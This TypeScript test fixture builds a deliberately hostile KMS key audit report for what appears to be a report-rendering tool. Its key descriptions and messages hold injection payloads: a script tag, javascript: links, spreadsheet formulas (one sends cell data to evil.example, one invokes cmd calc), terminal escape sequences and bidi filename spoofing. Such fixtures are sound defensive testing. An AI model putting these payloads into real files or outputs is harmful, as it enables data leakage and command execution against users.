import type { ControlRecord } from '../../src/model/report/compliance.ts'
import type { KeyRecord } from '../../src/model/report/report.ts'
import { aPlace, aRecord, aReport, anUnreadableRecord, SILENT } from './a-report.ts'

const since = '2026-04-23T00:00:00Z'
const until = '2026-11-20T13:30:22Z'

const never: Partial<KeyRecord> = {
  last_used: 'Never',
  disposition: 'never',
  usage: {
    ...SILENT,
    status: 'never',
    source: 'kms',
    evidence: [{ source: 'kms', status: 'not_observed', since, until }],
  },
  monthly_usage: 0,
}

const silent: Partial<KeyRecord> = {
  last_used: 'Never since 2026-04-23',
  disposition: 'silent',
  usage: {
    ...SILENT,
    status: 'not_observed',
    not_observed_since: since,
    source: 'kms',
    evidence: [{ source: 'kms', status: 'not_observed', since, until }],
  },
  monthly_usage: 0,
}

const used = (text: string, at: string): Partial<KeyRecord> => ({
  last_used: text,
  usage: { ...SILENT, status: 'used', last_used_at: at, precision: 'second', source: 'kms', operation: 'Decrypt' },
})

const stale: Partial<KeyRecord> = { ...used('2026-05-02 23:59 UTC', '2026-05-02T23:59:59Z'), disposition: 'stale' }

const different: Partial<KeyRecord>[] = [
  { description: '<script>alert("markup")</script> & <b>bold</b> | pipe | `code` [link](javascript:1)' },
  { ...stale, description: '=HYPERLINK("http://evil.example/?"&A1,"click")', aliases: ['alias/=1+1'] },
  { ...never, description: '\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007link \u009b2J \u001b[2A' },
  { ...silent, description: 'two\nlines\r\nthree\tand a tab, "quoted", comma\n' },
  { ...stale, description: 'safe \u202etxt.exe\u202c \u200bzero\u00adwidth \u{e0041}\u{e0042} \ufeffend' },
  { description: '暗号化キー（本番環境）データベース 암호화 키', aliases: ['alias/本番', 'alias/prod'] },
  {
    ...used('>= 2026-11-20 14:00 UTC', '2026-11-20T14:00:00Z'),
    description: '👨‍👩‍👧‍👦 family 🏴󠁧󠁢󠁥󠁮󠁧󠁿 flag 1️⃣ keycap ❤️ heart 👍🏽 🇪🇺 ✓',
  },
  { description: 'e\u0301tude \u0301 Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306algo नमस्ते क्‍ष می‌خواهم שלום' },
  { ...never, disposition: 'new', description: '+49 30 123456', created_at: '2026-11-19T08:00:00Z' },
  { ...silent, description: '', aliases: [], enabled: false, key_state: 'Disabled' },
  {
    description: "@SUM(1+1)*cmd|' /C calc'!A0",
    monthly_usage: 123456789,
    cost: { key: 0.1 + 0.2, basis: 'base', requests: 370.37 },
  },
  {
    ...stale,
    description: '-2+3',
    enabled: false,
    key_state: 'PendingDeletion',
    deletion_date: '2026-12-01T00:00:00Z',
    cost: { key: 0, basis: 'base', requests: 0 },
  },
  { description: '\uff1dfull width', last_used: 'Unknown', disposition: 'unknown', usage: SILENT, monthly_usage: null },
  {
    ...silent,
    description: 'AWS managed',
    key_manager: 'AWS',
    aliases: ['alias/aws/ebs'],
    cost: { key: 0, basis: 'base', requests: 0 },
  },
  { ...stale, description: 'price unknown', cost: { key: null, basis: 'base', requests: null } },
  {
    description: `${'long '.repeat(60)}end`,
    aliases: Array.from({ length: 12 }, (_, index) => `alias/application-number-${index}`),
    region: 'us-east-1',
    usage: {
      ...SILENT,
      status: 'used',
      last_used_at: '2026-11-19T09:05:11Z',
      precision: 'second',
      source: 'kms',
      disagreement: 'cloudtrail saw the same time and no use',
    },
  },
  { description: '\ud83d lone halves \udc00', region: 'us-east-1', key_id: 'mrk-1234567890abcdef1234567890abcdef' },
  { ...stale, description: '\t=1+1', region: 'us-east-1', account_id: '444455556666' },
]

const unreadable: KeyRecord[] = [
  anUnreadableRecord({ key_id: idOf(90), aliases: ['alias/secret'] }),
  anUnreadableRecord({
    key_id: idOf(91),
    account_id: '444455556666',
    region: 'us-east-1',
    ...used('2026-11-20 01:02 UTC', '2026-11-20T01:02:03Z'),
    disposition: 'in_use',
    error: 'Malformed response\n\u001b[2J for key description',
  }),
]

const keys = [...different.map((one, index) => aRecord({ key_id: idOf(index + 1), ...one })), ...unreadable]

const HOSTILE = '\u001b[2J=cmd() [link](javascript:1) | <b>bold</b> \u202eright\nnext line'

/** Everything at once that may stand in an account and break an output. */
export const hostileReport = aReport({
  keys,
  scope: {
    manager: 'all',
    sources: ['kms', 'cloudtrail', 'cloudwatch'],
    config: { path: '../<b>@org/team|`x`\n\u202e#1.yaml', named: false, options: ['manager', '@org'] },
    places: [
      aPlace({ status: 'partial', keys: 16 }),
      aPlace({ region: 'us-east-1', keys: 2 }),
      aPlace({ account_id: '444455556666', status: 'unreachable', keys: 0 }),
      aPlace({ account_id: '444455556666', region: 'us-east-1', keys: 2 }),
    ],
  },
  savings: {
    currency: 'USD',
    monthly_cost: 14.3,
    annual_cost: 171.6,
    is_lower_bound: true,
    unused_key_count: 7,
    monthly_savings: 6,
    annual_savings: 72,
  },
  compliance: [
    {
      framework: 'cis-7.0',
      name: 'CIS AWS Foundations 7.0.0',
      controls: [
        control('2.21', 'unknown', ['policy-public'], HOSTILE, { unknown: 2, pass: 15 }),
        control('4.5', 'not_covered', [], 'kms-audit does not read how trails are encrypted.'),
        control('4.6', 'fail', ['rotation-off', HOSTILE], '3 of 17 keys fail.', { fail: 3, pass: 14 }),
        control('5.7', 'muted', ['policy-lockout'], '1 of 17 keys does not pass.', { muted: 1, pass: 16 }),
      ],
    },
    {
      framework: '<b>|\u001b[2J',
      name: HOSTILE,
      controls: [
        control(HOSTILE, 'pass', ['rotation-off'], '17 keys pass.', { pass: 17 }),
        control('AC-3(15)', 'not_applicable', ['rotation-off'], 'No key is subject to this control.'),
      ],
    },
  ],
  gaps: [
    {
      account_id: '444455556666',
      region: 'eu-west-1',
      key_id: null,
      operation: 'kms:ListKeys',
      reason: 'denied',
      message: 'Not allowed: \u001b[31marn:aws:iam::444455556666:role/=cmd()\n\u202e',
    },
    {
      account_id: '111122223333',
      region: 'eu-west-1',
      key_id: idOf(90),
      operation: 'kms:DescribeKey',
      reason: 'denied',
      message: 'Access denied for key description',
    },
  ],
})

function control(
  id: string,
  status: ControlRecord['status'],
  checks: string[],
  detail: string,
  counts: Partial<ControlRecord['keys']> = {},
): ControlRecord {
  const none = { fail: 0, unknown: 0, muted: 0, pass: 0, not_applicable: 0 }
  return { id, title: 'Keys are not publicly accessible', status, checks, keys: { ...none, ...counts }, detail }
}

/** Ids that differ early, as real ones do, but for the first two, which begin alike. */
function idOf(number: number): string {
  const beginning = (0x0a1b2c3d + 0x0f0f0f0f * Math.max(0, number - 2)) % 0x100000000
  return `${beginning.toString(16).padStart(8, '0')}-${String(number).padStart(4, '0')}-4000-8000-000000000001`
}
